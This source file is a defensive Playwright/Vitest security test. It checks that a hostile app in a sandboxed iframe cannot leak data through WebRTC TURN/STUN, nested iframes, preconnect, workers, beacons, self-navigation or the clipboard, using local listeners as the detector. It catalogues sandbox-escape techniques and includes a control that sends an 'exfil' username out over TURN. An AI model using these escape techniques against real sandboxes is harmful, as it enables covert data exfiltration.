/**
 * Issue 27 in the real product: the escape corpus of a hostile app inside the host a person runs (the Vite
 * build, the IndexedDB Runtime, the real AppServer), not in a harness. The app (sandbox-product.app.ts, built
 * with the real surface SDK) is signed in the test, installed through Apps as a person would, made the
 * default app and opened in front by a reload, in a frame that loads the real `surface-frame.html` with the
 * host server's headers (CSP, Permissions-Policy, no DNS prefetch) and its prelude.
 *
 * The test listens on 127.0.0.1 itself: a UDP socket counting every datagram (and keeping its bytes, to show
 * a TURN username never arrived) and a raw TCP server counting every connection and every byte. The app
 * tries WebRTC (STUN, TURN with a username, every constructor name), a fresh realm (a nested frame made every
 * way an element can be made: createElement, every HTML-string sink, XML parsing, documents made empty,
 * customized built-ins), preconnect and DNS prefetch, workers, beacons and fetch; the exact table of
 * outcomes is asserted, then no datagram and no connection may have arrived.
 *
 * The clipboard: an app's own execCommand("copy") and a copy handler that swaps the data change nothing
 * (and ask nobody); a person's own copy of a selection still works; `clipboard.write` through the
 * Capability Gateway puts exactly the app's text there, and the Runtime's audit log says so.
 *
 * Self-navigation is the one channel Chromium leaves open (its own test). Two holes this test found in the
 * first prelude are kept as tests at the end: preconnect connected, and the frame watcher could be disabled
 * from the page.
 */
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { createServer, type AddressInfo, type Server, type Socket } from "node:net";
import { join } from "node:path";
import type { FrameLocator, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { HOSTILE_APP, HOSTILE_MANIFEST, HOSTILE_PURPOSE, type HostileAppConfig } from "./sandbox-product.app.js";
import { installAsDefaultApp, startOneAppHost, type SignedAppHost } from "./signed-app.js";
import { auditRecords, SCREENSHOTS } from "./support.js";
import { FAKE_MEDIA_ARGS } from "../../../test/support/chromium.js";

const APP = HOSTILE_APP;
const PURPOSE = HOSTILE_PURPOSE;
const nonce = Math.random().toString(36).slice(2, 10);
const TEXT = {
  host: `known-host-text-${nonce}`,
  script: `app-script-text-${nonce}`,
  event: `app-event-text-${nonce}`,
  gateway: `app-gateway-text-${nonce}`,
  person: `the person's own words ${nonce}`,
} as const;
const USERNAME = `exfil-${nonce}`;

const MANIFEST = HOSTILE_MANIFEST;

/** What reached the test's own listeners on 127.0.0.1. */
const datagrams: Buffer[] = [];
const connections: { bytes: Buffer[]; socket: Socket }[] = [];
let udp: UdpSocket;
let tcp: Server;
const seen = (): { datagrams: number; connections: number; bytes: number } => ({ datagrams: datagrams.length, connections: connections.length, bytes: connections.reduce((sum, c) => sum + c.bytes.reduce((n, b) => n + b.length, 0), 0) });
/** What arrived since `before` (a `seen()`). */
const since = (before: ReturnType<typeof seen>) => {
  const now = seen();
  return { datagrams: now.datagrams - before.datagrams, connections: now.connections - before.connections, bytes: now.bytes - before.bytes };
};
const NOTHING = { datagrams: 0, connections: 0, bytes: 0 } as const;
/** Every datagram's bytes, as text (a TURN Allocate carries its USERNAME attribute in the clear). */
const datagramText = () => datagrams.map((d) => d.toString("latin1")).join("\n");

/** What each of the app's attempts came to, in the order it made them. */
const EXPECTED: Record<string, string> = {
  // WebRTC: every constructor is a stub that throws, and stays one.
  "RTCPeerConnection (STUN)": "threw NotAllowedError",
  "RTCPeerConnection (TURN, username)": "threw NotAllowedError",
  webkitRTCPeerConnection: "threw NotAllowedError",
  "delete RTCPeerConnection": "false",
  "RTCPeerConnection after delete": "threw NotAllowedError",
  RTCDataChannel: "threw NotAllowedError",
  // A fresh realm: createElement refuses frame tags; every HTML string with a frame or a declarative shadow
  // root is refused by the Trusted Types default policy.
  "createElement(iframe) with RTC srcdoc": "threw NotAllowedError",
  "createElementNS(XHTML, iframe)": "threw NotAllowedError",
  "innerHTML (iframe srcdoc)": "threw TypeError",
  "insertAdjacentHTML (iframe)": "threw TypeError",
  "setHTMLUnsafe closed shadow root + iframe": "threw TypeError",
  "setHTMLUnsafe closed shadow root alone": "threw TypeError",
  "Document.parseHTMLUnsafe (iframe)": "threw TypeError",
  "document.write (iframe)": "threw TypeError",
  "createContextualFragment (iframe)": "threw TypeError",
  "execCommand insertHTML (iframe)": "threw TypeError",
  "DOMParser XHTML h:iframe, imported": "threw TypeError",
  // The template cannot be built at all: its markup is refused, and so is the element.
  "template holding an iframe": "threw TypeError",
  "template content + createElement(iframe)": "threw NotAllowedError",
  // Frame elements made another way (no createElement, no frame in any string) are refused too: an empty
  // document's root element, an XML entity that spells one, a customized built-in that extends one.
  "createDocument(XHTML, iframe)": "threw NotAllowedError",
  "XML entity expanding to h:iframe": "threw TypeError",
  "customized built-in extends iframe": "threw NotAllowedError",
  "made iframe inside a closed attachShadow root": "threw NotAllowedError",
  // Link elements are refused where elements are made: Chromium preconnects for rel=preconnect (see
  // "a preconnect opens no connection" below) and no CSP directive governs it.
  "link dns-prefetch (createElement)": "threw NotAllowedError",
  "link dns-prefetch (markup)": "threw TypeError",
  // Workers take a script URL: a Trusted Types sink the default policy does not answer.
  "new Worker(blob:)": "threw TypeError",
  "new SharedWorker(blob:)": "threw TypeError",
  // sendBeacon only queues (true); connect-src 'none' refuses the request, and the listener sees nothing.
  "navigator.sendBeacon": "true",
  fetch: "rejected TypeError",
  "window.webkit (native message handlers)": "undefined",
  // The machine's devices, though Chromium grants them to the host page without asking: the frame's `allow` and
  // Permissions-Policy refuse them. Chromium answers the host origin's notification permission to the frame, but
  // shows none of its notifications.
  "getUserMedia (microphone)": "rejected SecurityError",
  "getUserMedia (camera)": "rejected SecurityError",
  geolocation: "error 1",
  "Notification.requestPermission": "granted",
  "new Notification": "error event",
  // The host page and storage: the frame's origin is opaque.
  "parent.document (host DOM)": "threw SecurityError",
  "top.location.href": "threw SecurityError",
  localStorage: "threw SecurityError",
  "document.cookie": "threw SecurityError",
  "nested realms that ran": "none",
};

let world: SignedAppHost;
let page: Page;
let hostOrigin: string;

/**
 * The answer a TURN server gives a first Allocate (which carries no credentials): 401 with a realm and a nonce,
 * after which a client sends its Allocate again with its USERNAME. So a TURN username that leaves the page
 * arrives here, in the clear.
 */
function turnChallenge(request: Buffer): Buffer | undefined {
  const ALLOCATE = 0x0003;
  const MAGIC = 0x2112a442;
  if (request.length < 20 || request.readUInt16BE(0) !== ALLOCATE || request.readUInt32BE(4) !== MAGIC) return undefined;
  const attribute = (type: number, value: Buffer): Buffer => {
    const head = Buffer.alloc(4);
    head.writeUInt16BE(type, 0);
    head.writeUInt16BE(value.length, 2);
    return Buffer.concat([head, value, Buffer.alloc((4 - (value.length % 4)) % 4)]);
  };
  const body = Buffer.concat([
    attribute(0x0009, Buffer.concat([Buffer.from([0, 0, 4, 1]), Buffer.from("Unauthorized")])), // ERROR-CODE 401
    attribute(0x0014, Buffer.from("lineup-test")), // REALM
    attribute(0x0015, Buffer.from(`nonce-${nonce}`)), // NONCE
  ]);
  const header = Buffer.alloc(20);
  header.writeUInt16BE(0x0113, 0); // Allocate error response
  header.writeUInt16BE(body.length, 2);
  request.copy(header, 4, 4, 20); // the magic cookie and the request's transaction id
  return Buffer.concat([header, body]);
}

beforeAll(async () => {
  udp = createSocket("udp4");
  udp.on("message", (message, from) => {
    datagrams.push(message);
    const answer = turnChallenge(message);
    if (answer !== undefined) udp.send(answer, from.port, from.address);
  });
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  tcp = createServer((socket) => {
    const connection = { bytes: [] as Buffer[], socket };
    connections.push(connection);
    socket.on("data", (chunk) => connection.bytes.push(chunk));
    socket.on("error", () => undefined);
  });
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  const config: HostileAppConfig = {
    udpPort: udp.address().port,
    tcpPort: (tcp.address() as AddressInfo).port,
    username: USERNAME,
    scriptText: TEXT.script,
    eventText: TEXT.event,
    gatewayText: TEXT.gateway,
    purpose: PURPOSE,
  };
  const script = `import { run } from "./sandbox-product.app.js";\nrun(${JSON.stringify(config)});\n`;
  // A microphone and a camera (fake ones) that Chromium grants without asking: the app's frame must be refused
  // them anyway.
  world = await startOneAppHost(APP, MANIFEST, script, { dataDirPrefix: "lineup-sandbox-product-", publisherLabel: "Sandbox test publisher", chromiumArgs: FAKE_MEDIA_ARGS });
  page = world.page;
  hostOrigin = new URL(world.host.url).origin;
  // The host page may use the clipboard (the gateway's clipboard.write runs there, as the host), and the location
  // and notifications are granted to it too; the app's frame gets nothing of them (its Permissions-Policy and
  // `allow` deny them).
  await world.browser.context.grantPermissions(["clipboard-read", "clipboard-write", "geolocation", "notifications"], { origin: hostOrigin });
}, 120_000);

afterAll(async () => {
  await world?.close();
  for (const { socket } of connections) socket.destroy();
  await new Promise<void>((resolve) => (tcp ? tcp.close(() => resolve()) : resolve()));
  udp?.close();
});

const frame = (): FrameLocator => page.frameLocator(`.instance-surface[data-app="${APP.app_scope}"] iframe`);
const dialog = () => page.locator("dialog.capability-prompt");
const promptsShown = () => page.evaluate(() => (window as unknown as { __promptsShown: number }).__promptsShown);
const clipboard = () => page.evaluate(() => navigator.clipboard.readText());

async function watchPrompts(): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __promptsShown: number };
    w.__promptsShown = 0;
    new MutationObserver((records) => {
      for (const r of records) if (r.target instanceof HTMLDialogElement && r.target.classList.contains("capability-prompt") && r.target.open) w.__promptsShown += 1;
    }).observe(document.body, { subtree: true, attributes: true, attributeFilter: ["open"] });
  });
}

/** The app's table of outcomes: attempt → outcome, in the order it tried them. */
async function outcomes(): Promise<Record<string, string>> {
  const rows = frame().locator("#report tr");
  const out: Record<string, string> = {};
  for (const row of await rows.all()) out[(await row.getAttribute("data-name")) ?? "?"] = (await row.locator("td").nth(1).textContent()) ?? "";
  return out;
}

/** The app's log lines, oldest first. */
const logLines = () => frame().locator("#log li").allTextContents();
async function nextLogLine(action: () => Promise<void>): Promise<string> {
  const before = (await logLines()).length;
  await action();
  await expect.poll(async () => (await logLines()).length, { timeout: 10_000 }).toBeGreaterThan(before);
  return (await logLines())[before]!;
}

/** Opens the default app (the hostile one) by loading the host, and waits for its corpus to finish. */
async function openInFront(): Promise<void> {
  await expect.poll(() => page.locator("#app-area").getAttribute("data-app"), { timeout: 15_000 }).toBe(APP.app_scope);
  await frame().locator("#report[data-done]").waitFor({ timeout: 30_000 });
}

describe("issue 27: a hostile app in the real product (Chromium, real host, real frame page)", () => {
  it("installs the hostile app through Apps and opens it in front", async () => {
    await installAsDefaultApp(page, world.host.url, APP.name, async (review) => {
      expect(await review.textContent()).toContain("clipboard.write");
    });
    await openInFront();
    await watchPrompts();
  }, 90_000);

  it("every way out is refused, and nothing reaches the test's UDP or TCP listener", async () => {
    const table = await outcomes();
    expect(table).toEqual(EXPECTED);
    // In the order the app tried them (the table is the app's own record, row by row).
    expect(Object.keys(table)).toEqual(Object.keys(EXPECTED));
    // Anything late (ICE retransmits, a TURN allocation, a preconnect) has time to arrive.
    await page.waitForTimeout(2_000);
    expect(seen()).toEqual(NOTHING);
    expect(datagramText()).not.toContain(USERNAME);
    expect(await promptsShown()).toBe(0);
    expect(world.pageErrors).toEqual([]);
  });

  it("a screenshot of the hostile app in the product, its table in view", async () => {
    await page.screenshot({ path: join(SCREENSHOTS, "sandbox-product-1-hostile-app.png") });
  });

  it("the clipboard: the app's own copy and its copy handler change nothing, and nobody is asked", async () => {
    const before = seen();
    await page.evaluate((text) => navigator.clipboard.writeText(text), TEXT.host);
    expect(await clipboard()).toBe(TEXT.host);
    // A click (user activation) on a button whose handler selects the app's text, then copies and cuts it:
    // execCommand refuses, and no copy event fires.
    expect(await nextLogLine(() => frame().getByRole("button", { name: "Copy by script" }).click())).toBe("execCommand copy: false, cut: false");
    expect(await clipboard()).toBe(TEXT.host);
    // The person's own copy of what they selected still works; the app's copy handler cannot swap the data
    // (clipboardData is null during copy), so the clipboard holds the person's selection, not the app's text.
    const notes = frame().getByRole("textbox", { name: "Notes" });
    await notes.fill(TEXT.person);
    await notes.selectText();
    expect(await nextLogLine(() => page.keyboard.press("Control+C"))).toBe("copy event: TypeError");
    expect(await clipboard()).toBe(TEXT.person);
    expect(await logLines()).toEqual(["execCommand copy: false, cut: false", "copy event: TypeError"]);
    expect(await promptsShown()).toBe(0);
    // Nothing of it reached the Capability Gateway.
    expect((await auditRecords(page)).filter((r) => r.detail?.startsWith("clipboard.write"))).toEqual([]);
    expect(since(before)).toEqual(NOTHING);
  });

  it("clipboard.write through the Capability Gateway puts exactly the app's text there, and the audit says so", async () => {
    const before = seen();
    await page.evaluate((text) => navigator.clipboard.writeText(text), TEXT.host);
    const line = await nextLogLine(() => frame().getByRole("button", { name: "Ask to copy" }).click());
    expect(JSON.parse(line.replace(/^clipboard\.write: /, ""))).toEqual({ status: "completed", value: { written: true } });
    expect(await clipboard()).toBe(TEXT.gateway);
    // clipboard.write is low risk and needs no confirmation (protocol's capabilities.ts, requires_confirmation:
    // false; the web host sets no policy that asks): the gateway carries it out without a dialog.
    expect(await promptsShown()).toBe(0);
    expect(await dialog().evaluate((d) => (d as HTMLDialogElement).open)).toBe(false);
    // The Runtime's audit log (its IndexedDB store): the invocation with the app's purpose, then its result.
    const audited = (await auditRecords(page)).filter((r) => r.detail?.startsWith("clipboard.write"));
    expect(audited).toEqual([
      expect.objectContaining({ type: "capability.invoke", subject: APP.app_scope, detail: expect.stringMatching(new RegExp(`^clipboard\\.write \\S+: ${PURPOSE.replace(/\./g, "\\.")}$`)) as unknown as string }),
      expect.objectContaining({ type: "capability.result", subject: APP.app_scope, detail: expect.stringMatching(/^clipboard\.write \S+: completed$/) as unknown as string }),
    ]);
    expect(since(before)).toEqual(NOTHING);
    expect(world.pageErrors).toEqual([]);
  });

  it("self-navigation, the one channel Chromium leaves open: at most one connection, and not a byte on it", async () => {
    // Chromium opens the TCP connection for the frame's navigation (`location.href = <listener>/leak?secret=…`)
    // before the host page's CSP frame-src refuses the request, so the navigation itself cannot be closed from
    // the page (docs/security.md says so). What matters, and is asserted: no HTTP request leaves, so no path
    // or query (the secret) does; one connection at most; no datagram.
    const before = seen();
    await frame().getByRole("button", { name: "Leave" }).click();
    await page.waitForTimeout(2_000);
    const after = since(before);
    expect(after.connections).toBeLessThanOrEqual(1);
    expect(after.bytes).toBe(0);
    expect(after.datagrams).toBe(0);
    console.log(`self-navigation: ${after.connections} connection(s), ${after.bytes} bytes, ${after.datagrams} datagrams`);
  });

  it("opened again after it left (a reload), the app runs its corpus again and nothing leaks", async () => {
    const before = seen();
    await page.reload();
    await openInFront();
    expect(await outcomes()).toEqual(EXPECTED);
    await page.waitForTimeout(1_000);
    expect(since(before)).toEqual(NOTHING);
  }, 60_000);

  // Holes this file found in the first prelude of surface-frame.html, closed since; each logs its evidence.
  describe("holes found and closed", () => {
    // `<link rel=preconnect>` (by createElement or by markup) to an address the app chooses: in a profile on
    // disk (a person's browser; not in an incognito-like context) Chromium opened a TCP connection to it. No
    // CSP directive governs preconnect, and X-DNS-Prefetch-Control: off does not stop it: the prelude now
    // refuses link elements wherever an element is made.
    it("a preconnect opens no connection", async () => {
      const before = seen();
      await frame().getByRole("button", { name: "Preconnect" }).click();
      await frame().locator("#report[data-preconnected]").waitFor({ timeout: 10_000 });
      await page.waitForTimeout(1_500);
      console.log(`preconnect: ${JSON.stringify(since(before))}`);
      const tried = await outcomes();
      expect([tried["link preconnect (createElement)"], tried["link preconnect (markup)"]]).toEqual(["threw NotAllowedError", "threw TypeError"]);
      expect(since(before)).toEqual(NOTHING);
    });

    // Frame elements could be made without createElement and without a frame in any HTML string
    // (createDocument, an XML entity, a customized built-in), and the watcher that removes them called
    // `node.matches` / `node.querySelectorAll` as the page's prototypes have them, which the app can replace.
    // With both, a nested srcdoc frame ran without the prelude's pins and its peer connections reached the UDP
    // listener (36 datagrams, the TURN username among them). Now all three are refused where the element is
    // made, and the prelude calls only what it saved before the app ran.
    it("with the page's prototypes tampered with, a made frame still never runs and no datagram leaves", async () => {
      const before = seen();
      await frame().getByRole("button", { name: "Tamper and retry" }).click();
      await frame().locator("#report[data-tampered]").waitFor({ timeout: 15_000 });
      await page.waitForTimeout(1_500);
      const tampered = Object.fromEntries(Object.entries(await outcomes()).filter(([name]) => name.startsWith("tampered:")));
      const leaked = datagrams.slice(before.datagrams).map((d) => d.toString("latin1")).join("\n");
      await frame().locator("#report tr").last().scrollIntoViewIfNeeded();
      await page.screenshot({ path: join(SCREENSHOTS, "sandbox-product-2-tampered.png") });
      console.log(JSON.stringify({ tampered, since: since(before), turnUsernameArrived: leaked.includes(USERNAME) }, null, 1));
      expect(tampered["tampered: createElement(iframe) with intrinsics replaced"]).toBe("NotAllowedError");
      expect(tampered["tampered: execCommand copy with intrinsics replaced"]).toBe("false");
      expect(tampered["tampered: originals handed to the app"]).toBe("0");
      for (const [name, outcome] of Object.entries(tampered)) if (name.startsWith("tampered: made") || !/intrinsics|originals|nested realms/.test(name)) expect(outcome, name).toMatch(/^threw /);
      expect(tampered["tampered: nested realms that ran"]).toBe("none");
      expect(since(before)).toEqual(NOTHING);
      expect(leaked).not.toContain(USERNAME);
    }, 30_000);
  });

  describe("control", () => {
    // The same peer connections from a page without the prelude: they do reach the listener, and the TURN
    // username arrives (after the listener's 401), so the zeros above are the prelude's doing.
    it("the app's STUN and TURN peer connections, made in a page without the prelude, reach the UDP listener with the username", async () => {
      // Away from the host first: the app's frame (and any nested frame it made) is gone, and the listener is quiet.
      await page.goto("about:blank");
      await page.waitForTimeout(1_000);
      const quiet = seen();
      await page.waitForTimeout(500);
      expect(since(quiet)).toEqual(NOTHING);
      const before = seen();
      const { udpPort } = { udpPort: udp.address().port };
      await page.evaluate(
        async ({ port, username }) => {
          for (const server of [{ urls: `stun:127.0.0.1:${port}` }, { urls: `turn:127.0.0.1:${port}?transport=udp`, username, credential: "exfil-credential" }]) {
            const pc = new RTCPeerConnection({ iceServers: [server] });
            pc.createDataChannel("control");
            await pc.setLocalDescription(await pc.createOffer());
            (window as unknown as { __controlPeers?: RTCPeerConnection[] }).__controlPeers = [...((window as unknown as { __controlPeers?: RTCPeerConnection[] }).__controlPeers ?? []), pc];
          }
        },
        { port: udpPort, username: USERNAME },
      );
      await expect.poll(() => datagrams.slice(before.datagrams).some((d) => d.toString("latin1").includes(USERNAME)), { timeout: 10_000, message: "the TURN username reaches the listener" }).toBe(true);
      console.log(`control from a page without the prelude: ${JSON.stringify(since(before))}`);
      expect(since(before).datagrams).toBeGreaterThan(1);
      await page.evaluate(() => (window as unknown as { __controlPeers?: RTCPeerConnection[] }).__controlPeers?.forEach((pc) => pc.close()));
    });
  });
});
